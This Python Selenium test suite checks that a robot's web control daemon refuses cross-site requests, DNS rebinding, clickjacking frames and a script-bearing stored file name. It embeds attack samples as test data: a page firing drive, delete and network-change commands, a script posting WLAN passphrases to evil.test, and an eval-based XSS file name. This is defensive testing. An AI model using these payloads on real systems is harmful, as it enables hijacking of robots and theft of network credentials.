"""Pages of other web sites in the operator's browser, next to the robot's own page: they must not
drive the robot, change a file or read a reply. Host names are mapped by Chromium's resolver, so
the pages are plain-http names as on a robot's network (no fetch metadata, no Origin on an image),
and once loopback addresses, where the browser does send fetch metadata."""
import os
import sys
import unittest
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stack import OdometryProbe, Site, Stack, end_all, start_all, wait_for  # noqa: E402

from selenium.webdriver.common.action_chains import ActionChains  # noqa: E402
from selenium.webdriver.common.by import By  # noqa: E402

# The attacker's page: fires acting commands at the robot named in its query string in every way a
# page can without the robot's consent, and tries to read the WLAN passphrase.
# It sends no Referer, so only the robot page's own header tells the two apart.
ATTACK = r'''<!doctype html><meta charset="utf-8"><meta name="referrer" content="no-referrer"><title>another site</title><script>
const robot = decodeURIComponent(location.search.slice(1));
const url = (o) => robot + 'webgated?' + JSON.stringify(o).replace(/ /g, '%20').replace(/"/g, '%22')
  .replace(/\{/g, '%7B').replace(/\}/g, '%7D');
window.results = {};
(async () => {
  const drive = url({TYPE: 'velDrive', vx: 0.3, vy: 0, omega: 0});
  for (let i = 0; i < 6; i++) {
    new Image().src = drive.replace('velDrive', i % 2 ? 'HEARTBEAT' : 'velDrive');
    await fetch(url({TYPE: 'HEARTBEAT', n: i}), {mode: 'no-cors'}).catch(() => {});
  }
  await fetch(url({TYPE: 'renameFile', fileName: 'hello.rvw', newFileName: 'stolen.rvw'}), {mode: 'no-cors'}).catch(() => {});
  await fetch(url({TYPE: 'deleteFile', fileName: 'square.rvw'}), {mode: 'no-cors'}).catch(() => {});
  await fetch(url({TYPE: 'SetEthConf', IP: '10.6.6.6', Netmask: '255.0.0.0'}), {mode: 'no-cors'}).catch(() => {});
  // With the robot page's own header: the browser asks first, and the robot never says yes.
  try {
    const r = await fetch(url({TYPE: 'velDrive', vx: 0.3, vy: 0, omega: 0}), {headers: {'X-Webgated-Page': '1'}});
    window.results.marked = r.status + ' ' + await r.text();
  } catch (e) { window.results.marked = 'blocked'; }
  try {
    const r = await fetch(url({TYPE: 'getWLANConf'}), {headers: {'X-Webgated-Page': '1'}});
    window.results.read = r.status + ' ' + await r.text();
  } catch (e) { window.results.read = 'blocked'; }
  window.results.done = true;
})();
</script>'''


# What a script running in the robot's own origin would do: drive with the page's mark, read the
# WLAN passphrases and post them to the attacker's site.
STEAL = '''(async () => {
  const url = (o) => '/webgated?' + JSON.stringify(o).replace(/ /g, '%20').replace(/"/g, '%22')
    .replace(/\\{/g, '%7B').replace(/\\}/g, '%7D');
  const marked = {headers: {'X-Webgated-Page': '1'}};
  await fetch('http://evil.test:EVIL/ran', {mode: 'no-cors'}).catch(() => {});
  for (let i = 0; i < 4; i++) await fetch(url({TYPE: 'velDrive', vx: 0.3, vy: 0, omega: 0}), marked);
  const wlan = await (await fetch(url({TYPE: 'getWLANConf'}), marked)).text();
  await fetch('http://evil.test:EVIL/steal', {method: 'POST', mode: 'no-cors', body: wlan});
})();'''

# A bait page of another site with the robot's page laid over it in a frame nobody sees.
FRAME = '''<!doctype html><meta charset="utf-8"><title>bait</title>
<style>iframe { position: absolute; top: 0; left: 0; width: 1200px; height: 900px; opacity: 0.01; border: 0 }</style>
<button>Hold here to win</button><iframe src="ROBOT" onload="window.frameLoaded = true"></iframe>'''


class CrossSiteTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.stack = Stack(extra_config='[Access]\nhosts=robot.test\n')
        cls.robot, cls.driver = start_all(
            cls.stack, ('--host-resolver-rules=MAP robot.test 127.0.0.1, MAP evil.test 127.0.0.1',))
        with open(cls.stack.path('/var/www/html/attack.html'), 'w') as f:
            f.write(ATTACK)
        cls.evil = Site({'/marker': '<!doctype html><link rel="icon" href="data:,"><title>marker</title>'})

    @classmethod
    def tearDownClass(cls):
        cls.evil.close()
        end_all(cls.stack, cls.driver, cls.robot)

    def robot_still(self, robot=None):
        pose = (robot or self.robot).pose()
        return pose is not None and pose['vx'] == 0 and pose['vy'] == 0 and pose['omega'] == 0

    def store(self):
        return sorted(os.listdir(self.stack.path('/home/corvanta/programs')))

    def attack(self, page_origin, robot_origin):
        """Opens the attacker's page and waits until it has fired everything; returns its results."""
        self.assertTrue(wait_for(self.robot_still, 10), 'the robot was moving before the attack')
        start = self.robot.pose()
        store = self.store()
        refused = self.stack.log().count('| REFUSED ')
        self.driver.get(f'{page_origin}/attack.html?{robot_origin}/')
        results = wait_for(lambda: self.driver.execute_script('return window.results.done && window.results'), 20)
        self.assertTrue(results, 'the attacker page did not finish')
        # Every acting request that reached the daemon was refused; the robot never moved.
        self.assertTrue(wait_for(lambda: self.stack.log().count('| REFUSED ') >= refused + 10, 10), self.stack.log())
        self.assertTrue(self.robot_still())
        self.assertAlmostEqual(self.robot.pose()['x'], start['x'], delta=1e-6)
        self.assertEqual(self.store(), store)
        self.assertEqual(self.stack.read('/run/reconfigure_eth0.sh.args'), '')
        self.assertNotIn('robot secret', results['read'])
        return results

    def test_a_page_of_another_name_cannot_act_or_read_and_the_robots_own_page_still_can(self):
        port = self.stack.port
        results = self.attack(f'http://evil.test:{port}', f'http://robot.test:{port}')
        self.assertEqual(results['marked'], 'blocked')  # the preflight was refused
        self.assertEqual(results['read'], 'blocked')
        self.assertIn('CROSS-SITE REQUEST REFUSED', self.stack.log())

        # Rebinding: the other name leads to the robot, so the page asks its own origin.
        results = self.attack(f'http://evil.test:{port}', f'http://evil.test:{port}')
        self.assertEqual(results['marked'], '403 {"TYPE":"ERR","MSG":"HOST NOT ALLOWED"}')
        self.assertIn('add evil.test to [Access] hosts', self.stack.log())

        # The robot's own page under its allowed name drives, and says why the other name fails.
        self.driver.get(f'http://robot.test:{port}/')
        self.assertTrue(wait_for(lambda: self.driver.execute_script(
            "return document.querySelector('#program-list').textContent.includes('hello.rvw')"), 15))
        pad = self.driver.find_element(By.CSS_SELECTOR, '[data-dir=forward]')
        start = self.robot.pose()
        ActionChains(self.driver).click_and_hold(pad).perform()
        moved = wait_for(lambda: self.robot.pose()['x'] > start['x'] + 0.05, 10)
        ActionChains(self.driver).release(pad).perform()
        self.assertTrue(moved, 'the robot page could not drive')
        self.assertTrue(wait_for(self.robot_still, 10), 'the robot kept driving')
        self.driver.get(f'http://evil.test:{port}/')
        self.assertTrue(wait_for(lambda: self.driver.execute_script(
            "return [...document.querySelectorAll('#messages p')].some(m => "
            "m.textContent.includes('does not answer under this address'))"), 15))

    def nothing_ran(self, stack, robot, evil_from, log_from, start):
        """After a marker page of the attacker's site has loaded: the attacker's site got nothing
        before it, the daemon no drive command and no WLAN read, and the robot did not move."""
        self.driver.get(f'http://evil.test:{self.evil.port}/marker')
        self.assertTrue(wait_for(lambda: '/marker' in self.evil.paths()[evil_from:], 10))
        self.assertEqual(self.evil.paths()[evil_from:], ['/marker'], self.evil.sent(evil_from))
        self.assertNotIn('robot secret', self.evil.sent(evil_from))
        log = stack.log()[log_from:]
        self.assertNotIn('velDrive', log)
        self.assertNotIn('getWLANConf', log)
        self.assertTrue(self.robot_still(robot))
        self.assertAlmostEqual(robot.pose()['x'], start['x'], delta=1e-6)

    def steal(self):
        return STEAL.replace('EVIL', str(self.evil.port))

    def test_behind_both_snippets_a_store_page_is_only_a_download_and_the_largest_command_passes(self):
        lighttpd = Stack(extra_config='[Access]\nhosts=robot.test\n', server='lighttpd')
        lighttpd_robot = None
        try:
            lighttpd.start()
            lighttpd_robot = OdometryProbe(lighttpd.robot_port)
            for stack, robot in ((self.stack, self.robot), (lighttpd, lighttpd_robot)):
                with self.subTest(server=stack.server):
                    # The page sends up to 16 KiB in the request line (a save of many settings).
                    padded = stack.command({'TYPE': 'getVersion', 'pad': 'p' * (16384 - 60)})
                    self.assertEqual(padded['TYPE'], 'DATA')

                    self.assertTrue(wait_for(lambda: self.robot_still(robot), 10))
                    start, evil_from, log_from = robot.pose(), len(self.evil.paths()), len(stack.log())
                    with open(stack.path('/home/corvanta/programs/readme.html'), 'w') as f:
                        f.write(f'<!doctype html><title>readme</title><script>{self.steal()}</script>')
                    download = os.path.join(self.driver.download_dir, 'readme.html')
                    if os.path.exists(download):
                        os.remove(download)
                    self.driver.get('about:blank')
                    self.driver.get(f'http://robot.test:{stack.port}/programs/readme.html')
                    # It arrived whole, as a file to save, never as a page of the robot's site.
                    self.assertTrue(wait_for(lambda: os.path.exists(download), 15), 'no download')
                    self.assertNotEqual(self.driver.title, 'readme')
                    self.nothing_ran(stack, robot, evil_from, log_from, start)
        finally:
            self.driver.get('about:blank')
            self.stack.command({'TYPE': 'stop'})
            if lighttpd_robot:
                lighttpd_robot.close()
            lighttpd.stop()
            os.remove(self.stack.path('/home/corvanta/programs/readme.html'))

    def test_a_stored_file_name_never_runs_as_a_script_of_the_robots_site(self):
        # A local user names a program file as markup; the name carries no "/", the script comes
        # in the link's fragment.
        name = '<img src=x onerror=eval(decodeURIComponent(location.hash.slice(1)))>'
        stored = self.stack.path('/home/corvanta/programs/' + name)
        with open(stored, 'w') as f:
            f.write('program')
        try:
            self.assertTrue(wait_for(self.robot_still, 10))
            start, evil_from, log_from = self.robot.pose(), len(self.evil.paths()), len(self.stack.log())
            listing = '%7B%22TYPE%22:%22getProgramList%22%7D'
            self.driver.get(f'http://robot.test:{self.stack.port}/webgated?{listing}#' + urllib.parse.quote(self.steal()))
            self.assertTrue(wait_for(lambda: 'getProgramList' in self.stack.log()[log_from:], 10))
            # The reply is data: the name in it never became an element.
            self.assertEqual(self.driver.execute_script('return document.images.length'), 0)
            self.nothing_ran(self.stack, self.robot, evil_from, log_from, start)
        finally:
            self.driver.get('about:blank')  # ends a script that did run, before the next test
            os.remove(stored)
            self.stack.command({'TYPE': 'stop'})

    def test_in_a_frame_of_another_site_the_robots_page_neither_loads_nor_drives(self):
        port = self.stack.port
        self.assertTrue(wait_for(self.robot_still, 10))
        start = self.robot.pose()

        # Behind the packaged snippet the browser does not show the page in another site's frame.
        self.evil.pages['/frame.html'] = FRAME.replace('ROBOT', f'http://robot.test:{port}/')
        self.driver.get(f'http://evil.test:{self.evil.port}/frame.html')
        self.assertTrue(wait_for(lambda: self.driver.execute_script('return window.frameLoaded'), 15))
        self.driver.switch_to.frame(self.driver.find_element(By.TAG_NAME, 'iframe'))
        self.assertIsNone(self.driver.execute_script("return document.querySelector('#stop-all')"))
        self.driver.switch_to.default_content()

        # Behind a server that does not forbid framing (set up without the snippet), the page in the
        # frame says why it does nothing, drives nothing and sends nothing but a stop.
        plain = Site(page_dir=self.stack.path('/usr/share/webgated/www'), robot_port=port)
        try:
            self.evil.pages['/frame.html'] = FRAME.replace('ROBOT', f'http://robot.test:{plain.port}/')
            self.driver.get(f'http://evil.test:{self.evil.port}/frame.html')
            self.driver.switch_to.frame(self.driver.find_element(By.TAG_NAME, 'iframe'))
            self.assertTrue(wait_for(lambda: self.driver.execute_script(
                "return document.querySelector('#framed')?.textContent.includes('inside another page')"), 15))
            pad = self.driver.find_element(By.CSS_SELECTOR, '[data-dir=forward]')
            self.assertFalse(pad.is_enabled())
            ActionChains(self.driver).click_and_hold(pad).send_keys('w').perform()
            ActionChains(self.driver).release().perform()
            # The STOP button still stops: the one command the framed page sends, its marker here.
            self.driver.find_element(By.ID, 'stop-all').click()
            self.assertTrue(wait_for(lambda: 'stop' in plain.command_names(), 10))
            self.assertEqual(plain.command_names(), ['stop'])
        finally:
            self.driver.switch_to.default_content()
            plain.close()
        self.assertTrue(self.robot_still())
        self.assertAlmostEqual(self.robot.pose()['x'], start['x'], delta=1e-6)

    def test_with_fetch_metadata_on_loopback_a_foreign_page_is_refused_too(self):
        port = self.stack.port
        results = self.attack(f'http://localhost:{port}', f'http://127.0.0.1:{port}')
        self.assertEqual(results['marked'], 'blocked')
        self.assertIn('Sec-Fetch-Site "cross-site"', self.stack.log())


if __name__ == '__main__':
    unittest.main()
